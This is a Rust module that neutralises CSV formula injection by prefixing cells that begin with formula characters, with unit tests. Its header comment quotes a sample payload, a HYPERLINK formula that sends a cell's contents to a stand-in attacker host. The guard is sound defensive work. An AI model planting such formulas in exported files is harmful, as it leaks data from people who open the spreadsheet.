//! The formula guard: a cell a spreadsheet would run as a formula is written as text. Labels
//! come from the server and external keys from other accounts, so a label such as
//! `=HYPERLINK("https://evil.example/?"&A1)` must never run when an auditor opens the file.

use std::borrow::Cow;

/// What a spreadsheet (Excel, LibreOffice, Google Sheets) reads as the start of a formula, as
/// OWASP lists them, and NUL, which OWASP's ASVS adds.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// Whether a spreadsheet would take `text` for a formula.
pub fn looks_like_formula(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS)
}

/// A CSV cell as OWASP recommends: a leading `'` before what would start a formula (the
/// spreadsheet then shows it as text); the writer quotes every field besides, so a `;` or a
/// `,` inside a cell cannot start a new one in any locale.
pub fn csv_cell(text: &str) -> Cow<'_, str> {
    if looks_like_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_starts_a_formula_is_prefixed_and_nothing_else() {
        for text in ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "\0x"] {
            assert_eq!(csv_cell(text), format!("'{text}"), "{text:?}");
        }
        for text in [
            "",
            "plain",
            "a=b",
            " =1",
            "'quoted",
            "vtexappkey-acme-ABCDEF",
        ] {
            assert_eq!(csv_cell(text), text, "{text:?}");
        }
    }
}
